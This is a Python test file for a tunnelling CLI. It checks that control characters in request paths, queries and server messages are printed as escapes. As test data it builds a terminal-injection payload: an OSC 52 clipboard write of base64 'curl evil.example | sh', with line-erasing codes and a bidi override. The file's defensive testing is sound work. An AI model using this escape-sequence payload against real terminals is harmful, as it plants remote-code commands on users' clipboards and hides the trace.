"""Nothing from the wire reaches the developer's terminal as a control character: a path, a
query, a server's reason or URL, an error about a request. A path with ``%1B]52;...`` arrives
decoded (API Gateway's rawPath is percent-decoded) and, printed as it came, put a command on
the clipboard (OSC 52) and rewrote its own log line."""

from __future__ import annotations

import re

from tunnel_shared import protocol

from tests.cli.harness import FakeGateway, eventually, running_agent
from tests.cli.test_safety import closed_port
from tunnel_cli.terminal import printable

# What a terminal acts on: C0 (a line's own newline aside), DEL, C1.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
# OSC 52: set the clipboard to base64("curl evil.example | sh"), then erase the line (CSI 2K,
# here as the 8-bit C1 CSI) and return to its start.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
PATH = f"/{OSC52}x\x9b2K\r\u202eGET /ok"


def controls(text: str) -> list[str]:
    return CONTROL.findall(text)


async def test_a_request_log_line_shows_control_characters_as_escapes(app):
    async with FakeGateway() as gateway, running_agent(gateway, app.port) as agent:
        connection = await gateway.next_ready()
        response = await connection.request("GET", PATH, "next=%1B%5B2K&q=\x1b[31m")
        assert response.status == 200
        await eventually(lambda: " 200 " in agent.out.getvalue())
    out = agent.out.getvalue()
    assert controls(out) == []
    assert "\u202e" not in out
    (line,) = [line for line in out.splitlines() if line.startswith("GET ")]
    # Each escape visible where it was; the query's percent-escapes left as they were sent.
    assert line.startswith(
        "GET /\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07x\\x9b2K\\x0d\\u202eGET /ok"
        "?next=%1B%5B2K&q=\\x1b[31m 200 "
    )


async def test_an_error_about_a_request_shows_control_characters_as_escapes(app):
    async with FakeGateway() as gateway, running_agent(gateway, closed_port()) as agent:
        connection = await gateway.next_ready()
        response = await connection.request("POST", PATH)
        assert response.status == 502
        await eventually(lambda: "connection refused" in agent.err.getvalue())
    err = agent.err.getvalue()
    assert controls(err) == []
    assert "tunnel: POST /\\x1b]52;c;" in err


async def test_the_servers_reasons_and_url_show_control_characters_as_escapes(app):
    hostile = f"{OSC52}\x9b1A\x1b[2Kgone\x7f\x00"
    gateway = FakeGateway(public_url=f"https://{{subdomain}}.tunnel.test/{hostile}")
    async with gateway, running_agent(gateway, app.port, exit_code=1) as agent:
        connection = await gateway.next_ready()
        await connection.ws.send(protocol.encode({"type": "rejected", "reason": hostile}))
        await connection.ws.send(protocol.encode({"type": hostile}))
        await eventually(lambda: "unknown type" in agent.err.getvalue())
        await connection.send_closed(hostile)
        await eventually(lambda: agent.task.done())
    out, err = agent.out.getvalue(), agent.err.getvalue()
    assert controls(out) == [] and controls(err) == []
    assert "Forwarding https://demo.tunnel.test/\\x1b]52;c;" in out
    assert "the server rejected a message: \\x1b]52;c;" in err
    assert "the server closed the tunnel: \\x1b]52;c;" in err


def test_printable_escapes_c0_del_c1_and_reordering_controls_only():
    assert printable("a\tb\nc\x1b\x7f\x80\x9f\u202e\u2028é€ok") == (
        "a\\x09b\\x0ac\\x1b\\x7f\\x80\\x9f\\u202e\\u2028é€ok"
    )
